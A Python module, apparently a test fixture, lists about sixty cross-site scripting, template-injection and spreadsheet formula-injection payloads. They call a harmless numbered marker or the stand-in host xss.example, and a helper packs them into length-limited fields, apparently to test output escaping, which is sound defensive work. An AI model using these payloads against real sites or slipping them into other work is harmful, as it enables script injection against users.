"""Text that would run if it were ever read as anything but text. ``N`` stands for the payload's number."""

PAYLOADS = [
    text.replace("N", str(number))
    for number, text in enumerate(
        [
            "<script>xss(N)</script>",
            "<img src=x onerror=xss(N)>",
            '"><svg onload=xss(N)>',
            "'><body onload=xss(N)>",
            "<svg/onload=xss(N)//",
            '<iframe srcdoc="<script>parent.xss(N)</script>">',
            "javascript:xss(N)",
            '" onmouseover="xss(N)',
            "' onfocus='xss(N)' autofocus='",
            "</script><script>xss(N)</script>",
            "</textarea><script>xss(N)</script>",
            "</title><script>xss(N)</script>",
            "--><script>xss(N)</script>",
            "]]><script>xss(N)</script>",
            "{{constructor.constructor('xss(N)')()}}",
            "${xss(N)}",
            "{% debug %}{{ xss }}(N)",
            "<details open ontoggle=xss(N)>",
            '<math href="javascript:xss(N)">x</math>',
            "<a href=javascript:xss(N)>x</a>",
            "<form action=javascript:xss(N)><button>x",
            "<object data=javascript:xss(N)>",
            "<embed src=javascript:xss(N)>",
            "<base href=//xss.example/N/>",
            "<link rel=stylesheet href=//xss.example/N>",
            "<meta http-equiv=refresh content=0;url=//xss.example/N>",
            "<style>@import'//xss.example/N'</style>",
            "<div style=background:url(//xss.example/N)>",
            "<video><source onerror=xss(N)>",
            "<audio src=x onerror=xss(N)>",
            "<input autofocus onfocus=xss(N)>",
            "<select autofocus onfocus=xss(N)>",
            "<marquee onstart=xss(N)>",
            "<img src='x' onerror='xss(N)'/>",
            "<IMG SRC=x OnErRoR=xss(N)>",
            "<scr<script>ipt>xss(N)</scr</script>ipt>",
            "&lt;script&gt;xss(N)&lt;/script&gt;",
            "&#60;img src=x onerror=xss(N)&#62;",
            "\\u003cimg src=x onerror=xss(N)\\u003e",
            "%3Cimg%20src=x%20onerror=xss(N)%3E",
            '\\"-xss(N)-\\"',
            "';xss(N);//",
            "\\';xss(N);//",
            "`-xss(N)-`",
            "</div></td></tr></table><img src=x onerror=xss(N)>",
            "<svg><script>xss(N)</script></svg>",
            "<svg><animate onbegin=xss(N) attributeName=x>",
            "<template><img src=x onerror=xss(N)></template>",
            "<div hx-get=/ hx-trigger=load hx-on::load=xss(N)>",
            '<b hx-on:click="xss(N)">',
            '<div hx-get="//xss.example/N" hx-trigger="load">',
            "<button popovertarget=x onbeforetoggle=xss(N)>",
            '<noscript><p title="</noscript><img src=x onerror=xss(N)>">',
            "<math><mtext><mglyph><style><img src=x onerror=xss(N)>",
            "data:text/html,<script>xss(N)</script>",
            "vbscript:xss(N)",
            "java&Tab;script:xss(N)",
            "=cmd|'/c xss(N)'!A1",
            "\u202e<img src=x onerror=xss(N)>",
            "<!--><img src=x onerror=xss(N)>-->",
        ]
    )
]


def filling(limit: int | None, first: int) -> str:
    """Return payloads from number ``first`` on, around the list, one after the other: as many as the limit lets in."""
    text = ""
    for step in range(len(PAYLOADS)):
        payload = PAYLOADS[(first + step) % len(PAYLOADS)]
        if limit and len(text) + len(payload) + 1 > limit:
            if text:
                break
            continue  # too long for a short field: the next one may fit
        text = f"{text} {payload}".strip()
    return text
